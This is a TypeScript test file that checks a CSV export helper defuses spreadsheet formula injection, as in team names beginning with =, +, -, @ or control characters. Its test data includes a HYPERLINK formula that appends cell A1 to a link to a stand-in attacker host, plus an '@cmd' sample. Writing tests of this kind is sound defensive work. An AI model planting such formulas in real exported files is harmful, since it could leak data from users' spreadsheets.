import { describe, expect, it } from 'vitest';
import { classroomCsv, type ClassDecision } from './classroom';
import { csvCell, csvText } from './csv';
import { CSV_LABELS, parseCsv } from '../testing/csv';
import { builtIn } from '../testing/scenario';

describe('csvCell', () => {
  it('neutralises a cell a spreadsheet would run as a formula (= + - @, tab, CR)', () => {
    for (const bad of [
      '=HYPERLINK("http://evil.example","click")',
      '+1+2',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1',
      '\r=1',
    ])
      expect(csvCell(bad), JSON.stringify(bad)).toMatch(/^"?'/);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
  });

  it('leaves ordinary text and numbers as they are, quoting commas, quotes and line ends', () => {
    expect(csvCell('Lions')).toBe('Lions');
    expect(csvCell('狮子队')).toBe('狮子队');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(null)).toBe('');
    expect(csvCell('Blue, "the bold"')).toBe('"Blue, ""the bold"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(
      csvText([
        ['a', 1],
        ['b', null],
      ]),
    ).toBe('a,1\r\nb,\r\n');
  });
});

describe('the classroom CSV', () => {
  it('exports a team named =HYPERLINK(…) as text, never as a formula', () => {
    const { scenario } = builtIn('angry-customer', 'en');
    const node = scenario.nodes[scenario.start]!;
    const visible = node.choices.map((c) => c.id);
    const played: ClassDecision[] = [
      {
        node: scenario.start,
        visible,
        max: 10,
        votes: { t1: visible[0]! },
        chosen: visible[0]!,
        tieBroken: false,
        meters: {},
      },
    ];
    const teams = [
      { id: 't1', name: '=HYPERLINK("http://evil.example/?"&A1,"Open")' },
      { id: 't2', name: '@cmd' },
    ];
    const cells = parseCsv(classroomCsv(scenario, played, teams, 7, CSV_LABELS))
      .slice(1)
      .map((row) => row[3]!);
    for (const cell of cells) expect(cell, cell).toMatch(/^"?'[=@]/);
  });
});
